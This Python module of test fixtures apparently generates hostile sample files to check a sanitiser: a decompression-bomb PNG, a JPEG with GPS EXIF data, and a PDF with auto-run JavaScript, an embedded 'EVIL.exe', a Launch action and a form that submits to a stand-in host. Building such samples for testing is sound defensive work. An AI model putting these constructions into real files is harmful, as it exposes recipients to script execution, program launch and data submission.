"""Files as people, and those who mean harm, send them."""

import io
import zlib

PAYLOAD = "EVIL"


def a_photo(form="JPEG"):
    """A photograph of a telephone held upright, which tells where and with what it was taken."""
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, PAYLOAD  # turned by 90 degrees; the maker
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (30.0, 2.0, 3.0)
    made = io.BytesIO()
    Image.new("RGB", (60, 40), "red").save(made, form, exif=exif.tobytes())
    return made.getvalue()


def a_bomb():
    """A small PNG that says it is 60,000 pixels wide and high."""

    def chunk(kind, content):
        return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")

    side = (60_000).to_bytes(4, "big")
    content = zlib.compress(bytes(100_000))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", side * 2 + b"\x08\x02\0\0\0")
        + chunk(b"IDAT", content)
        + chunk(b"IEND", b"")
    )


def an_armed_pdf():
    """Scripts in four places, a program inside that is reached by three ways, buttons that send and start things."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0]
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{PAYLOAD}')"))
    pdf.Root.OpenAction, pdf.Root.AA = pdf.make_indirect(script), Dictionary(WC=script)
    page.AA = Dictionary(O=script)
    program = pikepdf.AttachedFileSpec(pdf, PAYLOAD.encode() * 9, filename=f"{PAYLOAD}.exe")
    pdf.attachments[f"{PAYLOAD}.exe"] = program
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("a"), script]))
    pdf.Root.AF = page.AF = Array([program.obj])
    box = Array([0, 0, 9, 9])
    pinned = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=program.obj, Rect=box)
    starting = Dictionary(S=Name.GoTo, D=String("here"), Next=Dictionary(S=Name.Launch, F=String(PAYLOAD)))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=starting)
    sending = Dictionary(S=Name.SubmitForm, F=String(f"https://{PAYLOAD}"))
    button = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=box, A=sending)
    page.Annots = Array([pdf.make_indirect(each) for each in (pinned, link, button)])
    pdf.Root.AcroForm = Dictionary(Fields=Array([page.Annots[2]]), XFA=String(PAYLOAD))
    pdf.docinfo["/Author"] = PAYLOAD
    return _saved(pdf)


def a_locked_pdf():
    """One that asks for a password."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _saved(pdf, encryption=pikepdf.Encryption(owner="a", user="b"))


def plainly(content):
    """The PDF with all its streams unpacked: what is not in here is nowhere."""
    import pikepdf

    with pikepdf.open(io.BytesIO(content)) as pdf:
        plain = pikepdf.StreamDecodeLevel.all
        return _saved(pdf, compress_streams=False, stream_decode_level=plain), len(pdf.pages)


def _saved(pdf, **how):
    made = io.BytesIO()
    pdf.save(made, **how)
    return made.getvalue()
